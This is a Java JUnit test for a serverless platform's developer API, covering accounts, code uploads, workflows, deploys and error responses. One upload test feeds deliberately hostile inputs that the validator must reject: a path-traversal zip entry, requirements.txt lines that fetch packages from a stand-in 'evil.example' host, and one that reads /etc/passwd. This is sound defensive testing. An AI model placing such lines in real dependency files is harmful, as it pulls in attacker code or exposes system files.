package sand.frontend;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import sand.cluster.HostAgentTables;
import sand.frontend.internal.Json;

/** The developer REST API over HTTP: accounts, grains, applications, deploy, executions, errors. */
class DeveloperApiTest {
  private TestFrontend fe;
  private String alice;
  private String bob;

  @BeforeEach
  void start() throws Exception {
    fe = new TestFrontend();
    alice = fe.signUp("alice");
    bob = fe.signUp("bob");
  }

  @AfterEach
  void stop() throws Exception {
    fe.close();
  }

  private static void assertError(TestFrontend.Answer a, int status, String code) {
    assertEquals(status, a.status(), a.body());
    assertEquals(code, a.json().path("error").path("code").asText(), a.body());
    assertTrue(!a.json().path("error").path("message").asText().isEmpty(), a.body());
  }

  static byte[] zip(Map<String, String> files) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream z = new ZipOutputStream(out)) {
      for (var e : files.entrySet()) {
        z.putNextEntry(new ZipEntry(e.getKey()));
        z.write(e.getValue().getBytes(StandardCharsets.UTF_8));
        z.closeEntry();
      }
    }
    return out.toByteArray();
  }

  @Test
  void signUpGivesAKeyOnceAndRefusesTakenOrBadNames() throws Exception {
    assertTrue(alice.startsWith("sand_"));
    assertError(fe.call("POST", "/api/v1/accounts", null, "{\"name\":\"alice\"}"), 409, "conflict");
    assertError(
        fe.call("POST", "/api/v1/accounts", null, "{\"name\":\"Not Valid\"}"), 400, "bad_request");
    assertError(fe.call("POST", "/api/v1/accounts", null, "{\"name\":"), 400, "bad_request");
  }

  @Test
  void closedSignUpNeedsTheAdminKey() throws Exception {
    try (TestFrontend closed = new TestFrontend(
        Map.of("open.signup", "false", "admin.key", "admin-key-0123456789"), true)) {
      assertError(
          closed.call("POST", "/api/v1/accounts", null, "{\"name\":\"carol\"}"),
          401,
          "unauthorized");
      var admin =
          closed.call("POST", "/api/v1/accounts", "admin-key-0123456789", "{\"name\":\"carol\"}");
      assertEquals(201, admin.status(), admin.body());
      String carol = admin.json().path("api_key").asText();
      assertError(
          closed.call("POST", "/api/v1/accounts", carol, "{\"name\":\"dave\"}"), 403, "forbidden");
    }
  }

  @Test
  void credentialsAreCheckedOnEveryDeveloperCall() throws Exception {
    assertError(fe.call("GET", "/api/v1/grains", null, null), 401, "unauthorized");
    assertError(fe.call("GET", "/api/v1/apps", "sand_nope", null), 401, "unauthorized");
    assertEquals(200, fe.call("GET", "/api/v1/apps", alice, null).status());
  }

  @Test
  void grainsAreVersionedAndPrivate() throws Exception {
    byte[] src = "def handle(event, context):\n    return event\n".getBytes();
    var v1 = fe.call("PUT", "/api/v1/grains/greet", alice, "text/x-python", src);
    assertEquals(200, v1.status(), v1.body());
    assertEquals(1, v1.json().path("version").asInt());
    assertEquals(AuthHandler.sha256(src), v1.json().path("sha256").asText());
    assertEquals(src.length, v1.json().path("size").asInt());
    assertEquals(
        2,
        fe.call("PUT", "/api/v1/grains/greet", alice, "text/x-python", src)
            .json()
            .path("version")
            .asInt());
    assertEquals(
        1, fe.call("GET", "/api/v1/grains", alice, null).json().path("grains").size());
    assertEquals(
        2,
        fe.call("GET", "/api/v1/grains/greet", alice, null)
            .json()
            .path("version")
            .asInt());
    var code = fe.call("GET", "/api/v1/grains/greet?code=1", alice, null, null);
    assertEquals(new String(src), code.body());
    // Bob sees none of it: 404 as for a grain that does not exist.
    assertEquals(
        0, fe.call("GET", "/api/v1/grains", bob, null).json().path("grains").size());
    assertError(fe.call("GET", "/api/v1/grains/greet", bob, null), 404, "not_found");
    assertError(fe.call("DELETE", "/api/v1/grains/greet", bob, null), 404, "not_found");
    assertEquals(200, fe.call("DELETE", "/api/v1/grains/greet", alice, null).status());
    assertError(fe.call("GET", "/api/v1/grains/greet", alice, null), 404, "not_found");
  }

  @Test
  void badUploadsAreRefusedWithTheReason() throws Exception {
    assertError(
        fe.call("PUT", "/api/v1/grains/g", alice, "text/x-python", new byte[0]), 400, "bad_grain");
    assertError(
        fe.call(
            "PUT", "/api/v1/grains/g", alice, "text/x-python", new byte[] {(byte) 0xff, (byte) 0xfe
            }),
        400,
        "bad_grain");
    assertError(
        fe.call("PUT", "/api/v1/grains/g", alice, "image/png", "x".getBytes()), 400, "bad_grain");
    assertError(
        fe.call("PUT", "/api/v1/grains/g", alice, "application/zip", "not a zip".getBytes()),
        400,
        "bad_grain");
    var evil =
        fe.call("PUT", "/api/v1/grains/g", alice, "application/zip", zip(Map.of("../g.py", "x")));
    assertError(evil, 400, "bad_grain");
    assertTrue(evil.body().contains("outside"), evil.body());
    for (String line : List.of(
        "-e .",
        "--index-url http://evil.example/simple",
        "-r /etc/passwd",
        "./pkg",
        "pkg @ https://evil.example/p.whl",
        "git+https://evil.example/r.git")) {
      var req = fe.call(
          "PUT",
          "/api/v1/grains/g",
          alice,
          "application/zip",
          zip(Map.of(
              "g.py",
              "def handle(e, c):\n    return e\n",
              "requirements.txt",
              "six==1.17.0\n" + line + "\n")));
      assertError(req, 400, "bad_grain");
      assertTrue(
          req.body().contains("grain g: requirements.txt line 2: '" + line + "' is not accepted"),
          req.body());
    }
    assertError(
        fe.call("PUT", "/api/v1/grains/bad%20name", alice, "text/x-python", "x".getBytes()),
        400,
        "bad_request");
    var ok = fe.call(
        "PUT",
        "/api/v1/grains/g",
        alice,
        "application/zip",
        zip(Map.of(
            "g/__init__.py", "def handle(e, c):\n    return e\n", "requirements.txt", "six\n")));
    assertEquals("zip", ok.json().path("kind").asText(), ok.body());
  }

  @Test
  void tooLargeBodiesAre413() throws Exception {
    try (TestFrontend small = new TestFrontend(Map.of("max.body.bytes", "2048"), true)) {
      String key = small.signUp("erin");
      assertError(
          small.call("PUT", "/api/v1/grains/g", key, "text/x-python", new byte[4096]),
          413,
          "too_large");
    }
  }

  @Test
  void workflowsAreValidatedWithWhatAndWhere() throws Exception {
    var a = fe.call(
        "PUT",
        "/api/v1/apps/shop",
        alice,
        "{\"name\":\"shop\",\"entry\":\"a\",\"functions\":"
            + "[{\"name\":\"a\",\"next\":[\"b\"]}]}");
    assertError(a, 400, "bad_workflow");
    assertTrue(a.body().contains("functions[0] (a).next names unknown grain 'b'"), a.body());
    assertError(fe.call("PUT", "/api/v1/apps/shop", alice, "{nope"), 400, "bad_request");
    assertError(
        fe.call("PUT", "/api/v1/apps/Shop!", alice, TestFrontend.HELLO), 400, "bad_request");
    assertError(
        fe.call("PUT", "/api/v1/apps/response", alice, TestFrontend.HELLO), 400, "bad_request");
    var s = fe.call(
        "PUT",
        "/api/v1/apps/shop",
        alice,
        TestFrontend.HELLO.replaceFirst("\\{", "{\"settings\":{\"sandbox_cpus\":-1},"));
    assertError(s, 400, "bad_request");
    assertTrue(s.body().contains("sandbox_cpus"), s.body());
  }

  @Test
  void everySettingAboveTheOperatorsCapIsA400NamingTheCap() throws Exception {
    Map<String, String> over = new LinkedHashMap<>();
    over.put("\"timeout_s\": 301", "limits timeout.s.max");
    over.put("\"instance_memory_mb\": 2049", "limits instance.memory.mb.max");
    over.put("\"concurrency\": 65", "limits concurrency.max");
    over.put("\"sandbox_memory_mb\": 2049", "limits sandbox.memory.mb.max");
    over.put("\"sandbox_cpus\": 2.5", "limits sandbox.cpus.max");
    over.put("\"sandbox_pids\": 1025", "limits sandbox.pids.max");
    for (var e : over.entrySet()) {
      var r = fe.call(
          "PUT",
          "/api/v1/apps/capped",
          alice,
          TestFrontend.HELLO.replaceFirst("\\{", "{\"settings\":{" + e.getKey() + "},"));
      assertError(r, 400, "bad_request");
      assertTrue(
          r.body().contains(e.getValue()) && r.body().contains("above the operator's cap"),
          r.body());
    }
    StringBuilder many = new StringBuilder("{\"name\":\"big\",\"entry\":\"g0\",\"functions\":[");
    for (int i = 0; i < 129; i++) {
      many.append(i == 0 ? "" : ",")
          .append("{\"name\":\"g")
          .append(i)
          .append("\",\"next\":[\"")
          .append(i == 128 ? "end" : "g" + (i + 1))
          .append("\"]}");
    }
    var big = fe.call("PUT", "/api/v1/apps/big", alice, many + "]}");
    assertError(big, 400, "bad_request");
    assertTrue(big.body().contains("129 grains, above the operator's cap of 128"), big.body());
    assertEquals(
        200,
        fe.call(
                "PUT",
                "/api/v1/apps/capped",
                alice,
                TestFrontend.HELLO.replaceFirst(
                    "\\{", "{\"settings\":{\"sandbox_memory_mb\": 2048, \"concurrency\": 64},"))
            .status(),
        "at the cap is fine");
  }

  @Test
  void theOperatorCanTakeTheChoiceOfHostsAway() throws Exception {
    try (TestFrontend placed =
        new TestFrontend(Map.of(), true, Map.of("hosts.choose", "false", "hosts.max", "2"))) {
      String key = placed.signUp("frank");
      var r = placed.call(
          "PUT",
          "/api/v1/apps/pinned",
          key,
          TestFrontend.HELLO.replaceFirst("\\{", "{\"settings\":{\"hosts\": [\"h1\"]},"));
      assertError(r, 400, "bad_request");
      assertTrue(r.body().contains("hosts.choose=false"), r.body());
    }
    Set<String> live = new TreeSet<>(List.of("h1", "h2", "h3", "h4"));
    List<String> one = DeploymentsHandler.placement("a1", live, 2);
    assertEquals(2, one.size());
    assertEquals(one, DeploymentsHandler.placement("a1", live, 2), "stable for one application");
    Set<String> used = new TreeSet<>();
    for (int i = 0; i < 40; i++) {
      used.addAll(DeploymentsHandler.placement("a" + i, live, 2));
    }
    assertEquals(live, used, "applications spread over every host");
    assertEquals(List.of(), DeploymentsHandler.placement("a1", live, 0), "no cap: every live host");
    assertEquals(
        List.of(), DeploymentsHandler.placement("a1", live, 4), "cap not reached: every live host");
  }

  @Test
  void anApplicationPlacedByTheSchedulerStartsOnMinHostsAndShowsWhereAndWhy() throws Exception {
    for (String h : List.of("h2", "h3")) {
      fe.store.upsertHost(
          new HostAgentTables.HostInfo(h, "b", "d", "", 1, 0, Instant.now(), Instant.now()));
    }
    String appId = fe.deployHello(alice, "elastic", "{\"max_hosts\": 3}");
    List<String> first = fe.store.application(appId).orElseThrow().hosts();
    assertEquals(1, first.size(), "min_hosts defaults to 1: " + first);
    fe.store.setPlacement(appId, List.of(first.get(0), "h9"));
    fe.store.putAppRecord(new sand.cluster.ApplicationRecords.AppRecord(
        appId,
        "placement",
        "current",
        "{\"reason\": \"9 events queued\", \"by\": \"h1\"}".getBytes()));
    JsonNode got = fe.call("GET", "/api/v1/apps/elastic", alice, null).json();
    assertEquals("9 events queued", got.path("placement").path("reason").asText(), got.toString());
    assertEquals(2, got.path("placement").path("hosts").size(), got.toString());
    assertTrue(got.path("settings").path("hosts").isMissingNode(), got.toString());
    String settings = got.path("settings").toString(); // request_timeout_s 0: the default
    var again = fe.call(
        "PUT",
        "/api/v1/apps/elastic",
        alice,
        TestFrontend.HELLO.replaceFirst("\\{", "{\"settings\":" + settings + ","));
    assertEquals(200, again.status(), again.body());
    assertEquals(
        List.of(first.get(0), "h9"),
        fe.store.application(appId).orElseThrow().hosts(),
        "a PUT of its settings keeps where the scheduler placed it");
    var both = fe.call(
        "PUT",
        "/api/v1/apps/elastic",
        alice,
        TestFrontend.HELLO.replaceFirst(
            "\\{", "{\"settings\":{\"max_hosts\": 2, \"hosts\": [\"h1\"]},"));
    assertError(both, 400, "bad_request");
    assertTrue(both.body().contains("not both"), both.body());
  }

  @Test
  void anApplicationSaysWhereRequestsEnterAndWhatRunsInEitherFormat() throws Exception {
    JsonNode sand =
        fe.call("PUT", "/api/v1/apps/shop", alice, TestFrontend.HELLO).json().path("shape");
    assertEquals("sand", sand.path("format").asText());
    assertEquals("greet", sand.path("entry").asText());
    assertEquals("shout", sand.path("grains").get(1).path("name").asText());
    String asl = "{\"StartAt\": \"Fetch\", \"States\": {"
        + "\"Fetch\": {\"Type\": \"Task\", \"Resource\": \"fetch\", \"Next\": \"Done\"},"
        + "\"Done\": {\"Type\": \"Pass\", \"End\": true}}}";
    var put = fe.call("PUT", "/api/v1/apps/flow", alice, asl);
    assertEquals(200, put.status(), put.body());
    JsonNode shape = fe.call("GET", "/api/v1/apps/flow", alice, null).json().path("shape");
    assertEquals("asl", shape.path("format").asText());
    assertEquals("Fetch", shape.path("entry").asText());
    assertEquals("fetch", shape.path("grains").get(0).path("resource").asText());
    assertTrue(shape.path("grains").get(1).path("resource").isNull(), shape.toString());
  }

  @Test
  void applicationNamesAreGlobalAndPrivate() throws Exception {
    var put = fe.call("PUT", "/api/v1/apps/shop", alice, TestFrontend.HELLO);
    assertEquals(200, put.status(), put.body());
    assertEquals("undeployed", put.json().path("status").asText());
    assertTrue(put.json().path("id").asText().matches("a[0-9a-f]{12}"));
    assertError(fe.call("PUT", "/api/v1/apps/shop", bob, TestFrontend.HELLO), 409, "conflict");
    assertError(fe.call("GET", "/api/v1/apps/shop", bob, null), 404, "not_found");
    assertEquals(
        0, fe.call("GET", "/api/v1/apps", bob, null).json().path("apps").size());
    assertEquals(
        1, fe.call("GET", "/api/v1/apps", alice, null).json().path("apps").size());
    String id = put.json().path("id").asText();
    fe.store.putAppRecord(
        new sand.cluster.ApplicationRecords.AppRecord(id, "alias", "X", new byte[] {1}));
    assertEquals(200, fe.call("DELETE", "/api/v1/apps/shop", alice, null).status());
    assertTrue(fe.store.appRecords(id, "alias").isEmpty(), "its records go with it");
    assertEquals(
        200,
        fe.call("PUT", "/api/v1/apps/shop", bob, TestFrontend.HELLO).status(),
        "a freed name is free");
  }

  @Test
  void deployCopiesGrainsBumpsTheVersionAndTellsTheAgents() throws Exception {
    assertEquals(
        200, fe.call("PUT", "/api/v1/apps/shop", alice, TestFrontend.HELLO).status());
    var missing = fe.call("POST", "/api/v1/apps/shop/deploy", alice, null);
    assertError(missing, 400, "missing_grain");
    assertTrue(missing.body().contains("'greet'"), missing.body());
    fe.call(
        "PUT",
        "/api/v1/grains/greet",
        alice,
        "application/zip",
        zip(Map.of(
            "greet.py", "def handle(e, c):\n    return e\n", "requirements.txt", "six==1.16.0\n")));
    fe.call(
        "PUT",
        "/api/v1/grains/shout",
        alice,
        "text/x-python",
        "def handle(e, c):\n    return e\n".getBytes());
    fe.store.upsertHost(
        new HostAgentTables.HostInfo("h1", "b", "d", "", 1, 0, Instant.now(), Instant.now()));
    var d = fe.call("POST", "/api/v1/apps/shop/deploy", alice, null);
    assertEquals(202, d.status(), d.body());
    assertEquals("deploying", d.json().path("status").asText());
    String appId = d.json().path("id").asText();
    var app = fe.store.application(appId).orElseThrow();
    assertEquals(1, app.version());
    assertEquals("deployed", app.desired());
    assertTrue(app.requirements().contains("six==1.16.0"), app.requirements());
    assertEquals(Set.of("greet", "shout"), fe.store.applicationCode(appId).keySet());
    JsonNode control = Json.MAPPER.readTree(fe.sent("sand.control").get(0).value());
    assertEquals("deploy", control.path("type").asText());
    assertEquals(appId, control.path("app").asText());
    assertTrue(control.path("hosts").isNull());

    fe.store.setAppHostState(appId, "h1", "deployed", null, Instant.now());
    fe.store.setAppHostState(
        appId, "h9", "deployed", null, Instant.now()); // a host that died: no heartbeat
    JsonNode deployed = fe.call("GET", "/api/v1/apps/shop", alice, null).json();
    assertEquals("deployed", deployed.path("status").asText());
    assertEquals(
        "h1 true h9 false",
        deployed.path("hosts").get(0).path("host").asText() + " "
            + deployed.path("hosts").get(0).path("alive") + " "
            + deployed.path("hosts").get(1).path("host").asText()
            + " " + deployed.path("hosts").get(1).path("alive"));
    assertError(fe.call("DELETE", "/api/v1/grains/greet", alice, null), 409, "conflict");
    assertError(fe.call("DELETE", "/api/v1/apps/shop", alice, null), 409, "conflict");
    // asked to, the grain goes and the deployed application keeps running the copy its deploy made
    assertEquals(
        200,
        fe.call("DELETE", "/api/v1/grains/shout?keep_deployed=1", alice, null).status());
    assertEquals(Set.of("greet", "shout"), fe.store.applicationCode(appId).keySet());
    assertTrue(fe.call("GET", "/api/v1/apps/shop", alice, null)
        .json()
        .path("grains")
        .get(1)
        .path("scope")
        .isNull());

    fe.store.setAppHostState(
        appId, "h1", "failed", "pip: No matching distribution found for six", Instant.now());
    var failed = fe.call("GET", "/api/v1/apps/shop", alice, null).json();
    assertEquals("failed", failed.path("status").asText());
    assertTrue(failed.path("error").asText().contains("No matching distribution"));

    var u = fe.call("POST", "/api/v1/apps/shop/undeploy", alice, null);
    assertEquals(202, u.status(), u.body());
    assertEquals(
        "undeploy",
        Json.MAPPER
            .readTree(fe.sent("sand.control").get(1).value())
            .path("type")
            .asText());
    assertEquals(
        "undeployed",
        fe.call("GET", "/api/v1/apps/shop", alice, null).json().path("status").asText());
    assertError(fe.call("POST", "/api/v1/apps/shop/deploy", bob, null), 404, "not_found");
  }

  @Test
  void anUpdateRunsTheNewestCodeOfTheNamedGrainsOnlyAndKeepsTheRestAsDeployed() throws Exception {
    String py = "text/x-python";
    assertEquals(
        200, fe.call("PUT", "/api/v1/apps/shop", alice, TestFrontend.HELLO).status());
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/greet",
        alice,
        py,
        "def handle(e, c):\n    return 1\n".getBytes());
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/shout",
        alice,
        py,
        "def handle(e, c):\n    return 1\n".getBytes());
    assertError(
        fe.call("POST", "/api/v1/apps/shop/update", alice, "{\"grains\":[\"greet\"]}"),
        409,
        "conflict");
    fe.store.upsertHost(
        new HostAgentTables.HostInfo("h1", "b", "d", "", 1, 0, Instant.now(), Instant.now()));
    String appId = fe.call("POST", "/api/v1/apps/shop/deploy", alice, null)
        .json()
        .path("id")
        .asText();
    fe.store.setAppHostState(appId, "h1", "deployed", null, Instant.now());
    var deployedShout = fe.store.applicationCode(appId).get("shout").sha256();
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/greet",
        alice,
        py,
        "def handle(e, c):\n    return 2\n".getBytes());
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/shout",
        alice,
        py,
        "def handle(e, c):\n    return 2\n".getBytes());

    var u = fe.call("POST", "/api/v1/apps/shop/update", alice, "{\"grains\":[\"greet\"]}");
    assertEquals(202, u.status(), u.body());
    assertEquals(2, u.json().path("version").asInt(), u.body());
    assertEquals("deploying", u.json().path("status").asText(), "the hosts report the swap");
    var code = fe.store.applicationCode(appId);
    assertEquals(
        "def handle(e, c):\n    return 2\n", new String(code.get("greet").code()));
    assertEquals(
        deployedShout, code.get("shout").sha256(), "shout was not named: it runs as deployed");
    assertEquals(
        List.of("deploy", "deploy"),
        fe.sent("sand.control").stream()
            .map(r -> Json.parse(r.value(), "control").path("type").asText())
            .toList());

    for (String bad : List.of("{\"grains\":[\"nope\"]}", "{\"grains\":[]}", "{}", "[1]")) {
      assertError(fe.call("POST", "/api/v1/apps/shop/update", alice, bad), 400, "bad_request");
    }
    assertEquals(
        "application 'shop' has no grain \"nope\" (its grains: [greet, shout])",
        fe.call("POST", "/api/v1/apps/shop/update", alice, "{\"grains\":[\"nope\"]}")
            .json()
            .path("error")
            .path("message")
            .asText());
    assertError(
        fe.call("POST", "/api/v1/apps/shop/update", bob, "{\"grains\":[\"greet\"]}"),
        404,
        "not_found");
  }

  @Test
  void anUpdateThatChangesRequirementsIsRefusedItNeedsADeploy() throws Exception {
    assertEquals(
        200, fe.call("PUT", "/api/v1/apps/shop", alice, TestFrontend.HELLO).status());
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/greet",
        alice,
        "application/zip",
        zip(Map.of(
            "greet.py", "def handle(e, c):\n    return e\n", "requirements.txt", "six==1.16.0\n")));
    fe.call(
        "PUT",
        "/api/v1/grains/shout",
        alice,
        "text/x-python",
        "def handle(e, c):\n    return e\n".getBytes());
    fe.store.upsertHost(
        new HostAgentTables.HostInfo("h1", "b", "d", "", 1, 0, Instant.now(), Instant.now()));
    assertEquals(202, fe.call("POST", "/api/v1/apps/shop/deploy", alice, null).status());
    // the same requirements in a new version of the zip: an update
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/greet",
        alice,
        "application/zip",
        zip(Map.of(
            "greet.py", "def handle(e, c):\n    return 3\n", "requirements.txt", "six==1.16.0\n")));
    assertEquals(
        202,
        fe.call("POST", "/api/v1/apps/shop/update", alice, "{\"grains\":[\"greet\"]}")
            .status());
    // sand update asks first (dry_run), so a refused update uploads nothing
    var changed = fe.call(
        "POST",
        "/api/v1/apps/shop/update",
        alice,
        "{\"grains\":[\"greet\"],\"dry_run\":true,\"requirements\":{\"greet\":\"six==1.17.0\\n\"}}");
    assertError(changed, 409, "conflict");
    assertTrue(changed.body().contains("sand deploy"), changed.body());
    var same = fe.call(
        "POST",
        "/api/v1/apps/shop/update",
        alice,
        "{\"grains\":[\"greet\"],\"dry_run\":true,\"requirements\":{\"greet\":\"# pinned\\nsix==1.16.0\"}}");
    assertEquals(200, same.status(), same.body());
    assertTrue(same.body().contains("\"accepted\":true"), same.body());
    assertError(
        fe.call(
            "POST",
            "/api/v1/apps/shop/update",
            alice,
            "{\"grains\":[\"greet\"],\"dry_run\":true,\"requirements\":[1]}"),
        400,
        "bad_request");
    fe.call(
        "PUT",
        "/api/v1/apps/shop/grains/greet",
        alice,
        "application/zip",
        zip(Map.of(
            "greet.py", "def handle(e, c):\n    return 4\n", "requirements.txt", "six==1.17.0\n")));
    var refused = fe.call("POST", "/api/v1/apps/shop/update", alice, "{\"grains\":[\"greet\"]}");
    assertError(refused, 409, "conflict");
    assertTrue(refused.body().contains("sand deploy"), refused.body());
  }

  @Test
  void aKnownKeyIsServedWhileTheClusterStateDoesNotAnswerAndAnUnknownOneGets502() throws Exception {
    assertEquals(200, fe.call("GET", "/api/v1/apps", alice, null).status());
    fe.accountsAway.set(true);
    try {
      assertEquals(200, fe.call("GET", "/api/v1/apps", alice, null).status());
      var unknown = fe.call("GET", "/api/v1/apps", "sand_" + "0".repeat(48), null);
      assertError(unknown, 502, "unavailable");
      assertTrue(unknown.body().contains("try again shortly"), unknown.body());
    } finally {
      fe.accountsAway.set(false);
    }
  }

  @Test
  void unknownRoutesAndMethodsAreJsonErrors() throws Exception {
    assertError(fe.call("GET", "/nope", null, null), 404, "not_found");
    var patch = fe.call("PATCH", "/api/v1/grains/x", alice, null);
    assertError(patch, 405, "method_not_allowed");
    assertEquals(
        "DELETE, GET, PUT",
        patch.raw().headers().firstValue("Allow").orElse(""),
        "405 says what is allowed");
    // nginx asks this way for a method it refuses itself (TRACE)
    var asked = fe.call("OPTIONS", "/api/v1/apps", alice, "application/json", null);
    assertEquals(405, asked.status());
    var traced = fe.http.send(
        HttpRequest.newBuilder(fe.uri("/api/v1/apps"))
            .method("OPTIONS", HttpRequest.BodyPublishers.noBody())
            .header("X-Sand-Refused-Method", "TRACE")
            .build(),
        HttpResponse.BodyHandlers.ofString());
    assertEquals(405, traced.statusCode());
    assertTrue(
        traced.body().contains("TRACE is not allowed on /api/v1/apps; allowed: GET"),
        traced.body());
    assertEquals("GET", traced.headers().firstValue("Allow").orElse(""));
  }

  @Test
  void urlsJettyRefusesGetTheApisJsonErrorForEveryMethod() throws Exception {
    for (String method : List.of("GET", "PUT", "DELETE", "POST")) {
      var r = fe.http.send(
          HttpRequest.newBuilder(URI.create(fe.uri("/").toString() + "api/v1/grains/a%01b"))
              .method(method, HttpRequest.BodyPublishers.noBody())
              .build(),
          HttpResponse.BodyHandlers.ofString());
      assertEquals(400, r.statusCode(), method + " " + r.body());
      assertEquals(
          "application/json",
          r.headers().firstValue("Content-Type").orElse("").split(";")[0],
          method);
      assertTrue(
          r.body().startsWith("{\"error\":{\"code\":\"bad_request\""), method + " " + r.body());
    }
  }

  @Test
  void healthAndOpenApiAreServed()
      throws Exception { // /metrics: AdminApiTest (the operator's only)
    assertEquals(
        "ok", fe.call("GET", "/healthz", null, null).json().path("status").asText());
    assertEquals(
        "3.0.3",
        fe.call("GET", "/api/v1/openapi.json", null, null)
            .json()
            .path("openapi")
            .asText());
  }
}
